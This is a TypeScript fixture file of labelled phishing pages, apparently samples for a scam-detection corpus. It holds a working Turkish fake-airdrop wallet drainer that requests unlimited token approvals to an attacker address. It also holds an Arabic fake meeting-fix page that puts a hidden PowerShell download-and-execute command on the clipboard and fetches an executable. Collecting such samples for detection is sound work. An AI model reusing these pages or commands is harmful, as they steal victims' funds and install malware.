import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, jsonRoute, okApi, rtlCss } from '../parts/zi-kit.js';

// Drainers, fake airdrops, seed-phrase stealers and ClickFix pages.

export const entries: Entry[] = [
  {
    id: 'zi-drain-token-claim-permit-tr',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://btcturk-token-dagitim.com/claim',
    body: doc({
      lang: 'tr',
      title: 'BTCTurk 12. Yıl Token Dağıtımı — Ücretsiz Talep Et',
      css: 'body{background:#0b0e11;color:#eaecef;text-align:center}.c{max-width:480px;margin:60px auto;background:#181a20;padding:30px;border-radius:16px}button{padding:14px 30px;background:#1b61e6;color:#fff;border:0;border-radius:10px;font-size:16px}',
      body: `<div class="c"><h1>🎁 12. Yıl Özel Dağıtımı</h1><p>Aktif kullanıcılarımıza 250 USDT değerinde BTK token hediye ediyoruz. Cüzdanınızı bağlayın ve uygunluğunuzu kontrol edin.</p>
<button id="c">Cüzdanı Bağla</button><p id="st" style="font-size:13px;color:#848e9c"></p></div>
<script>
var SPENDER='0x4f1e6Ab2bC9d0E3f7A8a52D6c1E9b04F3d7Ac218';
var TOKENS=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0x6B175474E89094C44Da98b954EedeAC495271d0F'];
document.getElementById('c').onclick=async function(){var st=document.getElementById('st');if(!window.ethereum){st.textContent='MetaMask veya Trust Wallet gerekli.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.textContent='Uygunluk kontrol ediliyor...';
for(var i=0;i<TOKENS.length;i++){var data='0x095ea7b3'+SPENDER.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:TOKENS[i],data:data}]})}catch(e){}}
fetch('/api/hit',{method:'POST',body:acc});st.textContent='Talebiniz alındı! Tokenlar 24 saat içinde cüzdanınızda olacak.'};
</script>`,
    }),
    routes: { ...okApi('btcturk-token-dagitim.com', '/api/hit') },
  },
  {
    id: 'zi-clickfix-meet-microphone-ar',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meet-zoom-join.com/j/84412077391',
    body: doc({
      lang: 'ar',
      dir: 'rtl',
      title: 'الانضمام إلى الاجتماع',
      css: rtlCss + 'body{background:#202124;color:#fff}.c{max-width:560px;margin:60px auto;background:#2d2e31;padding:26px;border-radius:12px}.e{background:#5c1f1f;padding:12px;border-radius:6px}button{background:#8ab4f8;color:#202124;border:0;padding:11px 22px;border-radius:20px;font-weight:600}.st{display:none;margin-top:16px;background:#3c4043;padding:14px;border-radius:8px}',
      body: `<div class="c"><h2>اجتماع: مراجعة عقد التوريد — الربع الرابع</h2>
<p class="e">⚠ تعذر الوصول إلى الميكروفون والكاميرا. برنامج التشغيل الخاص بالصوت متوقف.</p>
<button id="fx">إصلاح المشكلة</button>
<div class="st" id="st"><p>تم نسخ أداة الإصلاح. لإكمالها:</p><p>١. افتح PowerShell (اضغط Win + X ثم اختر Terminal)<br>٢. الصق الأمر (Ctrl + V)<br>٣. اضغط Enter ثم عد إلى الاجتماع</p></div></div>
<script>document.getElementById('fx').onclick=function(){var c="powershell -NoProfile -WindowStyle Hidden -Command \\"$r=Invoke-WebRequest -UseBasicParsing 'https://meet-zoom-join.com/drv/audio_fix.txt';Invoke-Expression $r.Content\\"";navigator.clipboard.writeText(c);document.getElementById('st').style.display='block'}</script>`,
    }),
    routes: { 'meet-zoom-join.com/drv/audio_fix.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: "$p=\"$env:APPDATA\\\\audiodrv.exe\";Invoke-WebRequest 'https://meet-zoom-join.com/drv/a.bin' -OutFile $p;Start-Process $p" } },
  },
];
